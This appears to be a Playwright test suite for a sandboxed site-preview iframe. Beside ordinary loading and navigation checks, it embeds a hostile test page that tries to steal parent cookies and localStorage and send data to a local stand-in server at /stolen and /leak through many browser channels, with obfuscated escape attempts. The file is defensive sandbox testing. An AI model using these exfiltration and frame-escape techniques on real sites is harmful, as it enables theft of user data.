/** What a page in the preview can do, and what a hostile one cannot. The services are played; the frame is the real one. */
import { type AddressInfo, createServer, type Socket } from 'node:net';
import type { FrameLocator, Page } from '@playwright/test';
import { fakeRequests, type FakeServices, openFakePreview } from './support/fake-lab.ts';
import { siteOrigin } from './support/origin.ts';
import { expect, test } from './support/test.ts';

const home = 'http://localhost:8080/';

async function opened(opener: Page, services: FakeServices, address = home): Promise<{ popup: Page; frame: FrameLocator }> {
  await opener.route('**/vm/manifest.json', () => {});
  await opener.goto('/en/');
  const popup = await openFakePreview(opener, address, services, 'en');
  return { popup, frame: popup.frameLocator('[data-testid="preview-frame"]') };
}

/** What a page writes into `#out`, one line each. */
const out = (frame: FrameLocator) => frame.locator('#out');

const pixel = '<svg xmlns="http://www.w3.org/2000/svg" width="7" height="5"><rect width="7" height="5" fill="red"/></svg>';

test('loads what a page is made of, in order', async ({ page }) => {
  const { frame } = await opened(page, {
    '/shop/': { body: `<!doctype html><html><head><title>Shop</title><link rel=stylesheet href=style.css><script src="first.js"></script><script>seen.push('inline ' + location.pathname)</script>
      <script type=module src=/main.js></script><script defer src=last.js></script><link rel=preconnect href=https://cdn.example></head>
      <body><img id=pic src=../pic.svg alt=pic><img id=set srcset="/pic.svg 1x, /big.svg 2x" alt=set><div id=late></div><p id=out></p></body></html>` },
    '/shop/style.css': { type: 'text/css', body: '@import "more.css"; #late { background: url(/pic.svg) }' },
    '/shop/more.css': { type: 'text/css', body: '#out { color: rgb(1, 2, 3) }' },
    '/shop/first.js': { type: 'text/javascript', body: `window.seen = ['first ' + document.currentScript.src + ' ' + document.URL]` },
    '/shop/last.js': { type: 'text/javascript', body: `seen.push('last ' + document.readyState)` },
    '/main.js': { type: 'text/javascript', body: `import { name } from './lib/name.js'; const late = await import('./lib/late.js'); seen.push('module ' + name + ' ' + late.default + ' ' + import.meta.url);
      document.title = 'Shop ready'; document.getElementById('out').textContent = seen.join('\\n')` },
    '/lib/name.js': { type: 'text/javascript', body: `export const name = 'deep'` },
    '/lib/late.js': { type: 'text/javascript', body: `export default 'lazy'` },
    '/pic.svg': { type: 'image/svg+xml', body: pixel },
  }, `${home}shop/`);
  await expect(out(frame)).toHaveText('first http://localhost:8080/shop/first.js http://localhost:8080/shop/\ninline /shop/\nlast interactive\nmodule deep lazy http://localhost:8080/main.js');
  await expect(out(frame)).toHaveCSS('color', 'rgb(1, 2, 3)');
  await expect.poll(() => frame.locator('#pic').evaluate((image: HTMLImageElement) => [image.naturalWidth, image.src, image.getAttribute('src')])).toEqual([7, 'http://localhost:8080/pic.svg', '../pic.svg']);
  await expect.poll(() => frame.locator('#set').evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(7);
  await expect(frame.locator('#late')).toHaveCSS('background-image', /^url\("blob:/);
});

test('loads what scripts add', async ({ page }) => {
  const { frame } = await opened(page, {
    '/': { body: `<body><div id=box></div><pre id=out></pre><script>
      const say = (text) => document.getElementById('out').append(text + '\\n');
      const image = new Image(); image.onload = () => say('image ' + image.naturalWidth); image.src = '/pic.svg';
      const broken = new Image(); broken.onerror = () => say('broken'); broken.src = '/none.png';
      document.getElementById('box').innerHTML = '<img id=inner src="pic.svg" alt=x onerror="say(\\'wrong\\')" style="background: url(pic.svg)">';
      const script = document.createElement('script'); script.src = '/more.js'; script.onload = () => say('loaded'); document.head.append(script);
      const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = '/more.css'; link.onload = () => say('styled ' + getComputedStyle(document.body).color); document.head.append(link);
    </script></body>` },
    '/more.js': { type: 'text/javascript', body: `say('script ' + location.host)` },
    '/more.css': { type: 'text/css', body: 'body { color: rgb(9, 8, 7) }' },
    '/pic.svg': { type: 'image/svg+xml', body: pixel },
  });
  for (const line of ['image 7', 'broken', 'script localhost:8080', 'loaded', 'styled rgb(9, 8, 7)']) await expect(out(frame)).toContainText(line);
  await expect.poll(() => frame.locator('#inner').evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(7);
  await expect(frame.locator('#inner')).toHaveCSS('background-image', /^url\("blob:/);
  await expect(out(frame)).not.toContainText('wrong');
});

test('talks to its service: fetch, XMLHttpRequest, WebSocket, events, cookies, storage', async ({ page }) => {
  const { frame } = await opened(page, {
    '/': { body: `<body><pre id=out></pre><script type=module>
      const say = (text) => document.getElementById('out').append(text + '\\n');
      const answer = await fetch('/api', { method: 'PUT', body: 'payload', headers: { 'X-A': '1' } });
      say('fetch ' + answer.status + ' ' + answer.url + ' ' + answer.headers.get('x-b') + ' ' + (await answer.json()).ok);
      const request = new XMLHttpRequest(); request.responseType = 'json'; request.open('POST', 'api'); request.setRequestHeader('X-C', '2');
      request.onload = () => say('xhr ' + request.status + ' ' + request.response.ok); request.send('body');
      const socket = new WebSocket('ws://' + location.host + '/live'); socket.onmessage = ({ data }) => { say(data); if (data.startsWith('welcome')) socket.send('hi'); else socket.close(1000) };
      socket.onclose = ({ code }) => say('closed ' + code);
      const events = new EventSource('/events'); events.addEventListener('tick', ({ data, lastEventId }) => { say('event ' + data + ' ' + lastEventId); events.close() });
      document.cookie = 'mine=2; Path=/'; say('cookie ' + document.cookie);
      say('stored ' + localStorage.kept); localStorage.setItem('new', 'x');
    </script></body>` },
    'PUT /api': { type: 'application/json', body: '{"ok":1}', headers: [['X-B', 'b']] },
    'POST /api': { type: 'application/json', body: '{"ok":2}' },
    '/events': { type: 'text/event-stream', body: ': hello\nid: 7\nevent: tick\ndata: one\ndata: two\n\n' },
  });
  for (const line of ['fetch 200 http://localhost:8080/api b 1', 'xhr 200 2', 'welcome to ws://localhost:8080/live', 'echo hi', 'closed 1000', 'event one\ntwo 7', 'cookie theirs=1; mine=2', 'stored yes']) {
    await expect(out(frame)).toContainText(line);
  }
  const asked = await fakeRequests(page);
  expect(asked.find(({ method }) => method === 'PUT')).toMatchObject({ body: 'payload', headers: expect.arrayContaining([['x-a', '1']]) });
  expect(asked.find(({ method }) => method === 'store')?.body).toContain('"key":"new","value":"x"');
  expect(asked.find(({ method }) => method === 'cookie')?.body).toContain('mine=2; Path=/');
});

test('goes where links, forms and scripts lead, and back', async ({ page }) => {
  const body = (name: string): string => `<title>${name}</title><h1>${name}</h1>`;
  const { popup, frame } = await opened(page, {
    '/': { body: `${body('home')}<a href="next?x=1">next</a> <a href="#far">far</a> <a href="no" onclick="return false">stays</a> <form action=/find><input name=q value="a b"><button>find</button></form>
      <form method=post action=/save enctype=multipart/form-data><input name=f value=1><button name=how value=now>save</button></form>
      <button onclick="location.href='/moved'">move</button> <button onclick="history.pushState({ n: 1 }, '', '/pushed')">push</button><p id=out></p>
      <p id=far style="margin-top: 3000px">far away</p><script>onpopstate = (event) => out.textContent += 'pop ' + location.pathname + location.hash + ' ' + JSON.stringify(event.state) + '; '</script>` },
    '/next?x=1': { body: body('next') },
    '/find?q=a+b': { body: body('found') },
    '/save': { body: body('saved') },
    '/moved': { body: `${body('moved')}<meta http-equiv=refresh content="0; url=/refreshed">` },
    '/refreshed': { body: body('refreshed') },
  });
  const address = popup.getByTestId('preview-address');
  const heading = frame.getByRole('heading', { level: 1 });
  await expect(heading).toHaveText('home');
  await frame.getByText('stays').click();
  await frame.getByText('next').click();
  await expect(heading).toHaveText('next');
  await expect(address).toHaveValue('http://localhost:8080/next?x=1');
  await expect(popup).toHaveTitle(/^next/);
  await popup.getByTestId('preview-back').click();
  await expect(heading).toHaveText('home');
  await popup.getByTestId('preview-forward').click();
  await expect(heading).toHaveText('next');
  await popup.getByTestId('preview-back').click();
  await expect(heading).toHaveText('home');

  await frame.getByText('far', { exact: true }).click();
  await expect(address).toHaveValue('http://localhost:8080/#far');
  await expect(frame.locator('#far')).toBeInViewport();
  await frame.getByRole('button', { name: 'push' }).click();
  await expect(address).toHaveValue('http://localhost:8080/pushed');
  await popup.getByTestId('preview-back').click();
  await expect(out(frame)).toHaveText('pop /#far null; pop /#far null; ');
  await popup.getByTestId('preview-forward').click();
  await expect(out(frame)).toContainText('pop /pushed {"n":1}');

  await frame.getByRole('button', { name: 'find' }).click();
  await expect(heading).toHaveText('found');
  await address.fill('8080');
  await address.press('Enter');
  await expect(heading).toHaveText('home');
  await frame.getByRole('button', { name: 'save' }).click();
  await expect(heading).toHaveText('saved');
  expect((await fakeRequests(page)).find(({ method }) => method === 'POST')?.body).toMatch(/name="f"\r\n\r\n1\r\n[\s\S]*name="how"\r\n\r\nnow/);
  await popup.getByTestId('preview-back').click();
  await frame.getByRole('button', { name: 'move' }).click();
  await expect(heading).toHaveText('refreshed');
});

test('is a wall around a hostile page', async ({ page, faults, context }) => {
  // What it tries is named in the console, and Chromium counts what it kept back as asked for.
  faults.expect(/^console: |^left the origin: http:\/\/127\.0\.0\.1:\d+\/(stolen|leak)$|^(csp|net::ERR_BLOCKED_BY_CSP): .*stolen$/);
  const reached: string[] = [];
  const sockets = new Set<Socket>();
  const outside = createServer((socket) => {
    sockets.add(socket);
    // Anything that is said: a request, or the beginning of TLS. Connections without a word are Chromium's own guesses.
    socket.on('data', (bytes) => {
      reached.push(bytes.toString('latin1').slice(0, 80));
      socket.end('HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 7\r\nConnection: close\r\n\r\nreached');
    });
    socket.on('error', () => undefined);
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => outside.once('listening', resolve));
  const port = (outside.address() as AddressInfo).port;
  const answered: string[] = [];
  context.on('response', (response) => {
    if (response.url().includes('stolen')) answered.push(response.url());
  });
  await page.goto('/en/');
  await page.evaluate(() => {
    localStorage.setItem('secret', 'treasure');
    document.cookie = 'secret=treasure';
  });
  const { popup, frame } = await opened(page, { '/': { body: hostilePage(siteOrigin(), `http://127.0.0.1:${port}`) } });
  await expect(out(frame)).toContainText('done', { timeout: 120_000 });
  const lines = ((await out(frame).textContent()) ?? '').trim().split('\n');
  for (const line of lines) expect(line, lines.join('\n')).toMatch(/^(kept out: |done$)/);
  expect(lines.length).toBeGreaterThan(80);
  expect(answered).toEqual([]);
  expect(reached).toEqual([]);
  expect(await popup.evaluate(() => [localStorage.getItem('secret'), document.cookie, document.title.includes('stolen'), location.pathname])).toEqual(['treasure', 'secret=treasure', false, '/en/preview/']);

  await test.step('and it cannot leave', async () => {
    const left = popup.getByTestId('preview-error');
    for (const way of ['self', 'site', 'data', 'blob', 'top', 'form']) {
      await popup.getByTestId('preview-reload').click();
      await expect(out(frame)).toContainText('done', { timeout: 30_000 });
      await frame.locator(`#leave-${way}`).click();
      if (way === 'top') await expect(frame.locator('#leave-top')).toBeVisible();
      // A form is sent by the preview, for which an address of this computer is one of the machine.
      else if (way === 'form') await expect(popup.getByTestId('preview-address')).toHaveValue(`http://127.0.0.1:${port}/leak`);
      else await expect(left).toContainText('DD5113');
    }
    expect(new URL(popup.url()).pathname).toBe('/en/preview/');
    expect(reached).toEqual([]);
  });
  outside.close();
  for (const socket of sockets) socket.destroy();
});

/**
 * Tries everything it can think of and writes down what it got: as a page, and from a frame within, where the browser's
 * own means are as they came.
 */
function hostilePage(site: string, outside: string): string {
  const tries = attempts(site, outside);
  const nested = `<script type=module>const say = (line) => parent.postMessage(line, '*');${tries}say('done within');</script>`;
  return `<body><pre id=out></pre>
  <button id=leave-self>self</button><button id=leave-site>site</button><button id=leave-data>data</button><button id=leave-blob>blob</button><button id=leave-form>form</button><button id=leave-top>top</button>
  <script type=module>
  const out = document.getElementById('out');
  const say = (line) => out.append(line + '\\n');
  // Says to the page around what only the preview's own script may say.
  parent.postMessage({ type: 'drydock-preview-window' }, '${site}', [new MessageChannel().port1]);
  parent.postMessage({ type: 'drydock-preview-hello' }, '${site}');
  parent.postMessage({ type: 'navigate', url: '${outside}/stolen' }, '*');
  ${tries}
  const where = eval('window')['loc' + 'ation'];
  const leave = {
    self: () => where.assign('${outside}/leak'), site: () => where.assign('${site}/stolen'),
    data: () => where.assign('data:text/html,<p>x'), blob: () => where.assign(URL.createObjectURL(new Blob(['<p>x'], { type: 'text/html' }))),
    form: () => { const form = document.createElement('form'); form.action = '${outside}/leak'; form.onsubmit = (event) => event.stopImmediatePropagation(); document.body.append(form); HTMLFormElement.prototype.requestSubmit.call(form); },
    top: () => { try { top[['loc', 'ation'].join('')].href = '${outside}/leak'; } catch { /* kept */ } },
  };
  for (const [name, deed] of Object.entries(leave)) document.getElementById('leave-' + name).onclick = deed;
  addEventListener('message', ({ data }) => say(data === 'done within' ? 'done' : data));
  const frame = document.createElement('iframe');
  frame.srcdoc = ${JSON.stringify(nested).replaceAll('</', String.raw`<\/`)};
  document.body.append(frame);
  </script></body>`;
}

function attempts(site: string, outside: string): string {
  return `
  const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const attempt = async (name, deed) => {
    try {
      const got = await Promise.race([deed(), pause(3000)]);
      say((got === undefined || got === null || got === false || got === '' ? 'kept out: ' : 'GOT ') + name + ' ' + String(got));
    } catch (error) {
      say('kept out: ' + name + ' ' + error.name);
    }
  };
  const attributeOf = (element, name, value) => { const attribute = document.createAttribute(name); attribute.value = value; element.attributes.setNamedItem(attribute); document.body.append(element); return element; };
  const event = (target, good, bad) => new Promise((resolve, reject) => { target['on' + good] = () => resolve(good); target['on' + bad] = () => reject(new TypeError()); });
  await attempt('parent.document', () => parent.document);
  await attempt('top.document', () => top.document);
  await attempt('top.localStorage', () => top.localStorage);
  await attempt('frameElement', () => window.frameElement);
  await attempt('opener', () => top.opener.document);
  await attempt('address of the site', () => top[['loc', 'ation'].join('')].href);
  await attempt('localStorage', () => localStorage.getItem('secret'));
  await attempt('cookie', () => /treasure/.test(document.cookie));
  await attempt('indexedDB', () => event(indexedDB.open('x'), 'success', 'error'));
  await attempt('caches', () => caches.keys());
  await attempt('service worker', () => navigator.serviceWorker.register('${site}/stolen.js'));
  await attempt('cookie store', () => cookieStore.getAll());
  await attempt('shared worker', () => event(new SharedWorker('${site}/stolen.js'), 'load', 'error'));
  await attempt('top navigation', () => { top[['loc', 'ation'].join('')].href = '${outside}/stolen'; return pause(200).then(() => ''); });
  for (const [name, origin] of [['site', '${site}'], ['outside', '${outside}']]) {
    const target = origin + '/stolen';
    await attempt('fetch of ' + name, () => fetch(target, { mode: 'no-cors' }).then((response) => response.status || response.type));
    await attempt('request to ' + name, () => { const xhr = new XMLHttpRequest(); xhr.open('GET', target); xhr.send(); return event(xhr, 'load', 'error').then(() => xhr.responseText); });
    await attempt('image of ' + name, () => event(attributeOf(document.createElement('img'), 'src', target), 'load', 'error'));
    await attempt('script of ' + name, () => event(attributeOf(document.createElement('script'), 'src', target), 'load', 'error'));
    await attempt('video of ' + name, () => event(attributeOf(document.createElement('video'), 'src', target), 'loadeddata', 'error'));
    await attempt('object of ' + name, () => event(attributeOf(document.createElement('object'), 'data', target), 'load', 'error'));
    await attempt('font of ' + name, () => new FontFace('x', 'url(' + target + ')').load().then(() => 'font'));
    await attempt('socket to ' + name, () => event(new WebSocket(target.replace('http', 'ws')), 'open', 'error'));
    await attempt('events of ' + name, () => event(new EventSource(target), 'open', 'error'));
    await attempt('import of ' + name, () => new Function('return im' + 'port("' + target + '")')());
    await attempt('worker at ' + name, () => event(new Worker(target), 'message', 'error'));
    await attempt('worker for ' + name, () => { const worker = new Worker(URL.createObjectURL(new Blob(['fetch("' + target + '").then(() => postMessage("got"), () => postMessage(""))']))); return new Promise((resolve, reject) => { worker.onmessage = ({ data }) => resolve(data); worker.onerror = () => reject(new TypeError()); }); });
    await attempt('beacon to ' + name, () => { Navigator.prototype.sendBeacon.call(navigator, target); return pause(100).then(() => ''); });
    await attempt('frame of ' + name, () => { attributeOf(document.createElement('iframe'), 'src', target); return pause(200).then(() => ''); });
    await attempt('window at ' + name, () => { Object.getOwnPropertyDescriptor(window, 'open')?.value.toString().includes('native') && window.open(target); return pause(100).then(() => ''); });
    await attempt('hints for ' + name, () => { for (const rel of ['prefetch', 'preload', 'modulepreload', 'stylesheet', 'manifest', 'icon']) { const link = document.createElement('link'); link.rel = rel; link.as = 'image'; attributeOf(link, 'href', target); } return pause(200).then(() => ''); });
  }
  `;
}
